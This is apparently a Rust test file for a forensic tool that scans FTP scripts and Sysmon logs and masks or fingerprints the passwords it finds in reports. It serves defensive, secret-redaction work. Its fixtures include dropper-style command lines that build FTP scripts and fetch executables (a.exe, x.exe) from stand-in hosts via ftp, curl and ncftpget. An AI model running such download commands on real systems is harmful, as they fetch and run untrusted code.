//! Passwords appear in the report that was asked for and nowhere else.

use crate::support::program;
use std::fs;

/// No word of the files but the passwords.
const CANARY: &str = "Can4ry!Pw";

fn host() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let put = |name: &str, content: String| fs::write(folder.path().join(name), content).unwrap();
    put("a.txt", format!("open 192.0.2.1\r\nuser bob {CANARY}\r\nget a.exe\r\nbye\r\n"));
    put("b.txt", format!("open 192.0.2.2\r\nbob\r\n{CANARY}\r\n!net use * \\\\h\\s {CANARY}\r\nput a.txt\r\nbye\r\n"));
    put(
        "c.txt",
        format!("open 192.0.2.3\r\nuser bob\r\n{CANARY}\r\nquote PASS {CANARY}\r\nquote site x\r\nget x\r\nbye\r\n"),
    );
    put(
        "d.bat",
        format!(
            "echo open h.example>e.txt\r\necho bob>>e.txt\r\necho PASS {CANARY}>>e.txt\r\necho get x>>e.txt\r\nftp -s:e.txt\r\n"
        ),
    );
    put("f.txt", format!("open 192.0.2.4\r\nUSER bob\r\nPASS {CANARY}\r\nget x.zip\r\nbye\r\n"));
    // In an address the password is written otherwise; in a batch file a percent sign is doubled.
    put(
        "g.bat",
        format!("@echo off\r\nftp -n h.example\r\ncurl -O ftp://bob:{}@192.0.2.5/x\r\n", CANARY.replace('!', "%%21")),
    );
    let started = |number: u32, image: &str, line: String| {
        let data = serde_json::json!({
            "UtcTime": "2024-05-12 10:00:00.000", "ProcessGuid": format!("{{365ABB72-55F1-5CD8-0000-{number:012X}}}"),
            "ProcessId": number, "Image": format!("C:\\Windows\\System32\\{image}"), "CommandLine": line,
            "CurrentDirectory": "C:\\t\\", "User": "PC1\\kim", "ParentProcessGuid": "{365ABB72-55F1-5CD8-0000-000000000001}",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": format!("cmd /c ftp://bob:{CANARY}@192.0.2.6/"),
        });
        let system = serde_json::json!({
            "Provider": { "#attributes": { "Name": "Microsoft-Windows-Sysmon" } }, "EventID": 1, "EventRecordID": number,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC1",
            "TimeCreated": { "#attributes": { "SystemTime": "2024-05-12T10:00:00.000Z" } },
        });
        format!("{}\n", serde_json::json!({ "Event": { "System": system, "EventData": data } }))
    };
    let dropper = format!("cmd /c echo open 192.0.2.7>h.txt&echo user bob {CANARY}>>h.txt&ftp -n -s:h.txt");
    let log =
        [started(2, "cmd.exe", dropper), started(3, "curl.exe", format!("curl -O ftp://bob:{CANARY}@192.0.2.8/x"))];
    put("sysmon.jsonl", log.concat());
    folder
}

fn shown(mode: &[&str], format: &str) -> (String, String) {
    let folder = host();
    let out = program().arg("scan").arg(folder.path()).args(["--format", format]).args(mode).output().unwrap();
    (String::from_utf8(out.stdout).unwrap(), String::from_utf8(out.stderr).unwrap())
}

#[test]
fn a_report_shows_them_and_nothing_else_does() {
    for format in ["text", "json", "jsonl"] {
        let (report, messages) = shown(&[], format);
        assert!(report.contains(CANARY), "{format}");
        assert!(!messages.contains(CANARY), "{format}");
    }
}

#[test]
fn a_report_that_travels_does_not() {
    let key = tempfile::NamedTempFile::new().unwrap();
    fs::write(key.path(), "the key").unwrap();
    let key = key.path().to_str().unwrap();
    for format in FORMATS {
        for mode in [&["--secrets", "mask"][..], &["--secrets", "fingerprint", "--fingerprint-key", key]] {
            let (report, _) = shown(mode, format);
            let line = report.lines().find(|line| line.contains(CANARY));
            assert_eq!(line, None, "{format} {mode:?}");
            assert!(!report.contains("%21"), "{format} {mode:?}");
            let tells = if format == "timesketch" { "192.0.2.8" } else { "192.0.2.5" };
            assert!(report.contains(tells), "{format} {mode:?}");
        }
    }
    let (report, _) = shown(&["--secrets", "fingerprint", "--fingerprint-key", key], "json");
    let report: serde_json::Value = serde_json::from_str(&report).unwrap();
    let digests: Vec<_> = report["credentials"].as_array().unwrap().iter().map(|one| &one["password_sha256"]).collect();
    assert!(digests.len() >= 3 && digests.iter().filter(|digest| digest == &&digests[0]).count() >= 3, "{digests:?}");
}

#[test]
fn a_key_may_be_any_bytes() {
    let key = tempfile::NamedTempFile::new().unwrap();
    let path = key.path().to_str().unwrap();
    let digests = |bytes: &[u8]| {
        fs::write(key.path(), bytes).unwrap();
        let (report, messages) = shown(&["--secrets", "fingerprint", "--fingerprint-key", path], "json");
        let report: serde_json::Value = serde_json::from_str(&report).unwrap_or_else(|_| panic!("{messages}"));
        report["credentials"][0]["password_sha256"].as_str().unwrap().to_owned()
    };
    let random: Vec<u8> = (0..32).map(|byte| (byte * 7) ^ 0xf3).collect();
    assert_ne!(digests(&random), digests(b"the key"));
    assert_eq!(digests("\u{feff}the key\r\n".as_bytes()), digests(b"the key"));
}

/// The report in a collection may travel; the scripts beside it are what they were.
#[test]
fn a_collection_masks_its_report_where_it_is_asked_to() {
    let (folder, out) = (host(), tempfile::tempdir().unwrap());
    let holds = |path: &std::path::Path| fs::read_to_string(path).unwrap().contains(CANARY);
    for (name, more, shown) in [("plain", &[][..], true), ("masked", &["--secrets", "mask"], false)] {
        let target = out.path().join(name);
        let done = program().arg("collect").arg(folder.path()).arg("-o").arg(&target).args(more).output().unwrap();
        assert_ne!(done.status.code(), Some(2), "{}", String::from_utf8_lossy(&done.stderr));
        assert_eq!(holds(&target.join("report.json")), shown, "{name}");
        assert!(!holds(&target.join("manifest.json")), "{name}");
        let scripts: Vec<_> = fs::read_dir(target.join("scripts")).unwrap().map(|one| one.unwrap().path()).collect();
        assert!(scripts.iter().any(|script| holds(script)), "{name}");
    }
    let mut keyless = program();
    keyless.arg("collect").arg(folder.path()).arg("-o").arg(out.path().join("x")).args(["--secrets", "fingerprint"]);
    let refused = keyless.output().unwrap();
    assert_eq!(refused.status.code(), Some(2));
    assert!(!out.path().join("x").exists());
}

#[test]
fn findings_never_hold_one() {
    let (report, _) = shown(&[], "json");
    let report: serde_json::Value = serde_json::from_str(&report).unwrap();
    for finding in report["findings"].as_array().unwrap() {
        let shell = finding["rule"] == "script.shell-escape";
        assert!(shell || !finding.to_string().contains(CANARY), "{finding:#}");
    }
    assert!(!report["errors"].to_string().contains(CANARY));
}

/// Passwords that are part of other words, in all places that a report has.
fn host_of_short(word: &str) -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let put = |name: &str, content: String| fs::write(folder.path().join(name), content).unwrap();
    put(
        "a.txt",
        format!(
            "open 192.0.2.1\r\nuser bob {word}\r\ndelete {word}\r\nrename {word} {word}\r\nmkdir {word}\r\nrmdir {word}\r\n\
             cd {word}\r\nlcd {word}\r\nget {word}\r\nput {word} {word}\r\nquote site {word}\r\n!echo {word}\r\nbye\r\n"
        ),
    );
    put("b.txt", format!("open 192.0.2.2\r\nbob\r\n{word}\r\nget a.exe\r\nbye\r\n"));
    put(
        "c.sh",
        format!("#!/bin/sh\nncftpget -u bob -p{word} 192.0.2.3 . /x.exe\ncurl -O ftp://bob:{word}@192.0.2.5/x.exe\n"),
    );
    put("d.ps1", format!("\"open 192.0.2.4`nbob`n{word}`nget a.exe`nbye`n\" | Out-File e.txt\r\nftp -s:e.txt\r\n"));
    let line = format!(
        "powershell -c \"\"\"open 192.0.2.7`nuser`nbob`n{word}`nget a.exe`nbye`n\"\"\" | Out-File h.txt; ftp -s:h.txt; ncftpget -u bob -p{word} 192.0.2.8 . x"
    );
    let data = serde_json::json!({
        "UtcTime": "2024-05-12 10:00:00.000", "ProcessGuid": "{365ABB72-55F1-5CD8-0000-000000000002}", "ProcessId": 7,
        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine": line, "User": "PC1\\kim",
        "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": line,
    });
    let system = serde_json::json!({
        "Provider": { "#attributes": { "Name": "Microsoft-Windows-Sysmon" } }, "EventID": 1, "EventRecordID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC1",
        "TimeCreated": { "#attributes": { "SystemTime": "2024-05-12T10:00:00.000Z" } },
    });
    put("sysmon.jsonl", format!("{}\n", serde_json::json!({ "Event": { "System": system, "EventData": data } })));
    folder
}

const FORMATS: [&str; 5] = ["text", "json", "jsonl", "playbook", "timesketch"];

fn report_of(folder: &std::path::Path, format: &str, more: &[&str]) -> String {
    let out = program().arg("scan").arg(folder).args(["--format", format]).args(more).output().unwrap();
    String::from_utf8(out.stdout).unwrap()
}

/// A regression: of a word of seven bytes or fewer only what stood alone was hidden, and some lists were forgotten.
#[test]
fn a_short_one_is_hidden_in_every_place_of_every_format() {
    let key = tempfile::NamedTempFile::new().unwrap();
    fs::write(key.path(), "the key").unwrap();
    let fingerprint = ["--secrets", "fingerprint", "--fingerprint-key", key.path().to_str().unwrap()];
    for word in ["Vx9kTz", "Zw4q"] {
        let folder = host_of_short(word);
        for format in FORMATS {
            assert!(report_of(folder.path(), format, &[]).contains(word), "{word} {format}");
            for mode in [&["--secrets", "mask"][..], &fingerprint] {
                let report = report_of(folder.path(), format, mode);
                let line = report.lines().find(|line| line.contains(word));
                assert_eq!(line, None, "{word} {format} {mode:?}");
                assert!(report.contains("192.0.2.7") || report.contains("ftp"), "{word} {format}");
            }
        }
        let out = tempfile::tempdir().unwrap();
        let target = out.path().join("x");
        let mut collect = program();
        collect.arg("collect").arg(folder.path()).arg("-o").arg(&target).args(["--secrets", "mask"]).output().unwrap();
        for file in ["report.json", "manifest.json"] {
            assert!(!fs::read_to_string(target.join(file)).unwrap().contains(word), "{word} {file}");
        }
    }
}

/// Hidden all over, `a` and `get` would leave nothing to read.
#[test]
fn a_very_short_one_leaves_a_report_to_read() {
    for word in ["a", "get"] {
        let folder = host_of_short(word);
        let report = report_of(folder.path(), "json", &["--secrets", "mask"]);
        let report: serde_json::Value = serde_json::from_str(&report).unwrap();
        let scripts = report["scripts"].as_array().unwrap();
        let of = |name: &str| scripts.iter().find(|script| script["path"] == name).unwrap();
        let commands = |name: &str| -> Vec<&str> {
            of(name)["sessions"][0]["commands"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(|one| one["text"].as_str())
                .collect()
        };
        assert!(commands("a.txt").contains(&"user bob ****"), "{word}: {:?}", commands("a.txt"));
        assert!(commands("a.txt").contains(&format!("get {word}").as_str()), "{word}: {:?}", commands("a.txt"));
        assert_eq!(commands("b.txt")[1..4], ["bob", "****", "get a.exe"], "{word}");
        let launches = report["launches"].as_array().unwrap();
        let line = |part: &str| {
            let mut lines = launches.iter().filter_map(|launch| launch["command_line"].as_str());
            lines.find(|line| line.contains(part)).unwrap().to_owned()
        };
        assert_eq!(line("192.0.2.3"), "ncftpget -u bob -p**** 192.0.2.3 . /x.exe", "{word}");
        assert_eq!(line("192.0.2.5"), "curl -O ftp://bob:****@192.0.2.5/x.exe", "{word}");
        for finding in report["findings"].as_array().unwrap() {
            assert!(!finding["explanation"].as_str().unwrap().starts_with("****"), "{word}: {finding}");
        }
        let event = report["events"][0]["process"]["command_line"].as_str().unwrap();
        assert!(event.contains("`nbob`n****`nget a.exe`n"), "{word}: {event}");
    }
}
